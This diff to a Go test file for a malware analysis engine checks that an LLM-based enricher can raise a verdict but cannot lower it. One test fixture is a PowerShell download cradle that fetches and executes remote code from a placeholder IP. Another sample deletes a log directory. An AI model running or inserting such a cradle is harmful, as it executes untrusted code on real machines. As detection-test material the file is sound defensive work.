@@ -332,3 +332,45 @@ func BenchmarkAnalyze(b *testing.B) {
 		}
 	}
 }
+
+// lowering is an Enricher that tries to talk the engine out of its verdict.
+type lowering struct{}
+
+func (lowering) Explain(context.Context, *analysis.Report) (analysis.Explanation, error) {
+	return analysis.Explanation{}, errors.New("not used")
+}
+
+func (lowering) EnrichReport(_ context.Context, r *analysis.Report) error {
+	r.Verdict.Label, r.Verdict.Source = verdict.Benign, "llm"
+	r.Explanation = analysis.Explanation{Summary: "Harmless.", Source: "llm:test"}
+	return nil
+}
+
+type raising struct{ lowering }
+
+func (raising) EnrichReport(_ context.Context, r *analysis.Report) error {
+	r.Verdict.Label, r.Verdict.Source = verdict.Suspicious, "rules+llm"
+	r.Explanation = analysis.Explanation{Summary: "Looks like a stager.", Source: "llm:test"}
+	return nil
+}
+
+func TestEnricherMayRaiseNeverLower(t *testing.T) {
+	cradle := []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')\n")
+	r, err := newEngine(t, func(o *analysis.Options) { o.Explainer = lowering{} }).
+		Analyze(context.Background(), analysis.Sample{Data: cradle, Name: "a.ps1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Verdict.Label != verdict.Malicious {
+		t.Errorf("lowering enricher: got %s, want the malicious verdict kept", r.Verdict.Label)
+	}
+	benign := []byte("Get-ChildItem C:\\Logs | Remove-Item\n")
+	r, err = newEngine(t, func(o *analysis.Options) { o.Explainer = raising{} }).
+		Analyze(context.Background(), analysis.Sample{Data: benign, Name: "b.ps1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Verdict.Label != verdict.Suspicious || r.Explanation.Source != "llm:test" {
+		t.Errorf("raising enricher: got %s / %s, want suspicious / llm:test", r.Verdict.Label, r.Explanation.Source)
+	}
+}
